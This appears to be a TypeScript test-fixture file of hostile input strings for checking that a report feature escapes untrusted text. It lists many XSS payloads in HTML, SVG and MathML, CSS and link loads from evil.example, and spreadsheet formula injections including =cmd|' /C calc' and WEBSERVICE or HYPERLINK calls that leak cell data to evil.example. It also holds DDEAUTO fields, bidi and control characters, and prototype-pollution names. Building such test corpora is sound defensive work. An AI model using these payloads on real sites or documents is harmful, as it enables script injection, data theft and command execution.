/** For tests: what somebody may write, or hide, where a report has words. Each is words to us, whatever it is elsewhere. */

/** What a page or a picture would run, load or obey, were it not escaped. */
export const markup: readonly string[] = [
  '<script>window.__alarm?.(1)</script>',
  '</script><script>window.__alarm?.(1)//',
  '<img src=x onerror="window.__alarm?.(1)">',
  '<img/src=`x`onerror=window.__alarm?.(1)>',
  '<svg/onload=window.__alarm?.(1)>',
  '<svg><script href="data:text/javascript,window.__alarm(1)"/></svg>',
  '<svg><animate onbegin=window.__alarm?.(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x"/></svg>',
  '<svg><foreignObject><body onload=window.__alarm?.(1)></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.__alarm(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__alarm(1)>',
  '<math href="javascript:window.__alarm(1)">按此</math>',
  '<noscript><p title="</noscript><img src=x onerror=window.__alarm(1)>">',
  '<template><script>window.__alarm(1)</script></template>',
  '<!--><img src=x onerror=window.__alarm(1)>-->',
  '<!--[if gte mso 9]><script>window.__alarm(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=window.__alarm(1)>]]>',
  ']]><script>window.__alarm(1)</script>',
  '--><script>window.__alarm(1)</script><!--',
  '</title><script>window.__alarm(1)</script>',
  '</textarea><script>window.__alarm(1)</script>',
  '</style><script>window.__alarm(1)</script><style>',
  '<style>@import url(https://evil.example/a.css);*{background:url(https://evil.example/b.png)}</style>',
  '<p style="width:expression(window.__alarm(1));behavior:url(#default#time2);-moz-binding:url(//evil.example/x)">',
  '<link rel=prefetch href=https://evil.example/p><link rel=stylesheet href=//evil.example/c>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__alarm(1)">',
  '<iframe srcdoc="<script>parent.__alarm(1)</script>"></iframe>',
  '<iframe src="javascript:parent.__alarm(1)"></iframe>',
  '<object data="data:text/html,<script>parent.__alarm(1)</script>"></object><embed src=//evil.example/e>',
  '<a href="javascript:window.__alarm(1)">按此</a><a href="data:text/html,x" ping=//evil.example/>',
  '<form action=//evil.example/ id=document name=body><input name=cookie autofocus onfocus=window.__alarm(1)>',
  '<button formaction="javascript:window.__alarm(1)">按此</button>',
  '<details open ontoggle=window.__alarm(1)><summary>细</summary></details>',
  '<video><source onerror=window.__alarm(1)></video><audio src=x onerror=window.__alarm(1)>',
  '<img name=getElementById><img id=documentElement><form id=document><input id=createElement></form>',
  '"><script>window.__alarm(1)</script>',
  "'><script>window.__alarm(1)</script>",
  '" onmouseover="window.__alarm(1)" x="',
  "' onmouseover='window.__alarm(1)' x='",
  '` onmouseover=window.__alarm(1) x=`',
  '&lt;script&gt;window.__alarm(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=window.__alarm(1)&amp;gt;',
  '&#60;script&#62;window.__alarm(1)&#60;/script&#62;',
  '<scr\0ipt>window.__alarm(1)</scr\0ipt>',
  '＜script＞window.__alarm(1)＜/script＞',
  '+ADw-script+AD4-window.__alarm(1)+ADw-/script+AD4-',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what somebody writes
  '${window.__alarm(1)}{{constructor.constructor("window.__alarm(1)")()}}<%=1%>',
  'javascript:window.__alarm(1)',
];

/** What a spreadsheet would count, fetch or start, and what Word would take for a field. */
export const formulas: readonly string[] = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"点击")',
  '=WEBSERVICE("https://evil.example/")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '　=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\0=1+1',
  '＝1+1',
  '＋1',
  '＠SUM(1)',
  '"=1+1',
  '甲",=1+1,"乙',
  '甲;=1+1;乙',
  '甲\r\n=1+1',
  'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
  '{ DDEAUTO "cmd" "/c calc" }',
  '{ INCLUDEPICTURE "https://evil.example/x.png" \\d }',
];

/** What does not show, turns what does, or is no character at all. */
export const signs: readonly string[] = [
  '\u202e镇公开政息信12\u202c',
  '\u2066\u202d\u2069\u200f\u200e',
  '\u200b\u200c\u200d\u2060\ufeff\u00ad',
  'a\0b\u0001c\u0008d\u001be\u007ff\u0085g',
  '\ud800甲\udc00乙\udfff',
  '\ufffe\uffff\ufdd0\u{1fffe}\u{10ffff}',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334'.repeat(20),
  '\u2028甲\u2029乙\u000b丙\u000c丁',
  '𠮷𡘙👨‍👩‍👧‍👦',
];

/** What every object in JavaScript answers to. */
export const objectNames: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  'isPrototypeOf',
  '__defineGetter__',
  'then',
  'toJSON',
  'length',
];

export const hostileTexts: readonly string[] = [...markup, ...formulas, ...signs, ...objectNames];

/** The words of `text` that any format can carry: no controls, halves of characters, or signs that do not show. */
export const wordsIn = (text: string): string =>
  text.replace(/[\p{Cc}\p{Cf}\p{Cs}\p{Noncharacter_Code_Point}\s]/gu, '');
